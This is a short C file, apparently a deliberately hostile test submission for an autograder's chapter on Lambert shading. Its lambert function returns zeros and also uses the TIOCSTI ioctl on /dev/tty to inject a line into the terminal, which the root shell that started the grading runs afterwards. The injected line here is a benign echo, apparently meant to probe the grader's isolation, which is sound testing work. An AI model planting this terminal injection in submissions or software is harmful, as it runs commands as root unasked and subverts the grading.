/* Hostile submission for chapter 05 (tools/hostile.sh): lambert types a line
 * into the terminal the grading runs in (TIOCSTI on /dev/tty, its
 * controlling terminal), which the shell of whoever started the grading,
 * root, reads and runs once the grading ends.  It returns zeros. */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "05_lambert/lambert.h"

color lambert(color k_d, vec3 point, vec3 n, const scene_light *light)
{
    (void)k_d, (void)point, (void)n, (void)light;
    static int typed;
    int fd = typed ? -1 : open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd >= 0) {
        for (const char *c = "echo typed-by-the-submission\n"; *c; c++)
            ioctl(fd, TIOCSTI, c);
        close(fd);
        typed = 1;
    }
    return color_make(0, 0, 0);
}
